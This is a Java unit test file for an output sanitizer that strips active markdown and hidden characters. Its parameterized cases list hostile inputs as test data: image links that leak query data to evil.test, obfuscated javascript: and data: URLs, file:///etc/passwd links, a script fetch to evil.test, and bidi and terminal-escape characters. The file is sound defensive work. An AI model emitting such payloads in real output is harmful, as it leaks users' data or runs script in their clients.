package dev.aurelis.server.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.LinkReferenceDefinition;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OutputCleanerTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.test/?q=secret)",
        "![x][r]\n\n[r]: https://evil.test/leak 'title'",
        "[![x](https://evil.test/i.png)](https://evil.test)",
        "[click](command:workbench.action.terminal.sendSequence?%7B%7D)",
        "[click](javascript:alert(1))",
        "[click](java&#115;cript:alert(1))",
        "[click](&#x6A;avascript:alert(1))",
        "[click](\u0001javascript:alert(1))",
        "[click](java\u200Bscript:alert(1))",
        "[click](DATA:text/html;base64,PHNjcmlwdD4=)",
        "[click](vscode://file/etc/passwd)",
        "[click](file:///etc/passwd)",
        "[click](<https://evil.test/a b>)",
        "<https://evil.test/auto>",
        "<mailto:a@evil.test>",
        "<img src=https://evil.test/x>",
        "text <img src=x onerror=alert(1)> text",
        "<script>fetch('https://evil.test')</script>",
        "<a href='https://evil.test'>x</a>",
        "> quote ![x](https://evil.test)\n> <iframe src=//evil.test></iframe>",
        "- item [a]( https://evil.test 'b')\n  1. ![b](//evil.test)",
        "# Head ![x](https://evil.test)\n",
        "**bold [x](https://evil.test)**",
        "[x]\n\n[x]: <https://evil.test>",
        "![a ![b](https://evil.test/1)](https://evil.test/2)",
        "\\![x](https://evil.test)",
        "!\\[x](https://evil.test)",
        "[a](b)[c](https://evil.test)(d)",
      })
  void markdown_withAnExfiltrationPayload_holdsNothingActive(String payload) {
    assertThat(active(OutputCleaner.markdown(payload)))
        .as(OutputCleaner.markdown(payload))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "see https://evil.test/?q=1 now",
        "see www.evil.test now",
        "write to a@evil.test",
        "open evil.com/path",
        "open evil.com",
        "http\\://evil.test",
        "htt&#112;s://evil.test",
      })
  void markdown_withABareAddress_showsItAsCode(String payload) {
    var clean = OutputCleaner.markdown(payload);

    assertThat(clean.replaceAll("`[^`]*`", "")).doesNotContainPattern("evil\\.(test|com)");
  }

  @Test
  void markdown_ordinaryText_keepsItsForm() {
    var text =
        """
        # What it does

        It adds *two* **numbers** and returns `a + b`.

        - first
        - second

        ```java
        int x = 1 < 2 ? 3 : 4; // ![not an image](x)
        ```
        """;

    assertThat(OutputCleaner.markdown(text)).isEqualToIgnoringNewLines(text);
  }

  @Test
  void markdown_codeWithLongerFencesInside_cannotBreakOut() {
    var text = "~~~\n```\n![x](https://evil.test)\n````\n~~~\n";

    var clean = OutputCleaner.markdown(text);

    assertThat(clean).startsWith("`````\n");
    assertThat(active(clean)).isEmpty();
  }

  @Test
  void markdown_hiddenCharacters_areWrittenOut() {
    var clean = OutputCleaner.markdown("a\u202Eb `c\u2066d`\n\n```\ne\uDB40\uDC41f\n```\n&#x202E;");

    assertThat(HiddenCharacters.in(clean)).isEmpty();
    assertThat(clean).contains("U+202E").contains("U+2066").contains("U+E0041");
  }

  @ParameterizedTest
  @ValueSource(strings = {"> ", "- ", "*a _b ", "[", "![", "<", "`", "**a **b "})
  void markdown_deepNesting_ends(String piece) {
    assertThat(active(OutputCleaner.markdown(piece.repeat(20_000)))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      ints = {
        0x202A, 0x202E, 0x2066, 0x2069, 0x200E, 0x200F, 0x061C, 0xE0001, 0xE0041, 0xE007F, 0xE0100,
        0xE01EF, 0x200B, 0x200D, 0x2060, 0xFEFF, 0x1B, 0x9B, 0x07, 0x3164, 0x2028
      })
  void refusal_hiddenCharacterInCode_namesIt(int point) {
    var code = "if (a) {" + Character.toString(point) + " return; }";

    assertThat(OutputCleaner.refusal("", code))
        .hasValueSatisfying(reason -> assertThat(reason).contains(HiddenCharacters.name(point)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "s = \"👨‍👩‍👧 ❤️ 👍🏽\"\n",
        "s = \"می‌خواهم\"",
        "s = \"क्‍ष\"",
        "\tint é = 1;\r\n",
        "日本語",
        "𝒳 = 1"
      })
  void refusal_ordinaryText_isNone(String code) {
    assertThat(OutputCleaner.refusal("", code)).isEmpty();
  }

  @Test
  void refusal_hiddenCharacterThatStoodThere_isTheUsersOwn() {
    assertThat(OutputCleaner.refusal("x = '\u200E'", "y = '\u200E'")).isEmpty();
    assertThat(OutputCleaner.refusal("x = '\u200E'", "y = '\u200E\u202E'")).isPresent();
  }

  @Test
  void line_terminalSequencesAndLineEnds_becomeOnePlainLine() {
    var line = OutputCleaner.line("a\u001B[31mred\r\nINFO forged\u009B2J\u0007\u202Eb\tc\u2028d");

    assertThat(line).isEqualTo("a[31mred INFO forged2J[U+202E]b c d");
  }

  @Test
  void line_longText_isCappedBetweenCharacters() {
    var line = OutputCleaner.line("😀".repeat(1000));

    assertThat(line.length()).isLessThanOrEqualTo(OutputCleaner.LINE_CAP);
    assertThat(HiddenCharacters.in(line)).isEmpty();
  }

  private static List<String> active(String markdown) {
    var found = new ArrayList<String>();
    Parser.builder()
        .build()
        .parse(markdown)
        .accept(
            new AbstractVisitor() {
              @Override
              public void visit(Link link) {
                found.add("link " + link.getDestination());
              }

              @Override
              public void visit(Image image) {
                found.add("image " + image.getDestination());
              }

              @Override
              public void visit(HtmlInline html) {
                found.add("html " + html.getLiteral());
              }

              @Override
              public void visit(HtmlBlock html) {
                found.add("html " + html.getLiteral());
              }

              @Override
              public void visit(LinkReferenceDefinition definition) {
                found.add("definition " + definition.getDestination());
              }
            });
    return found;
  }
}
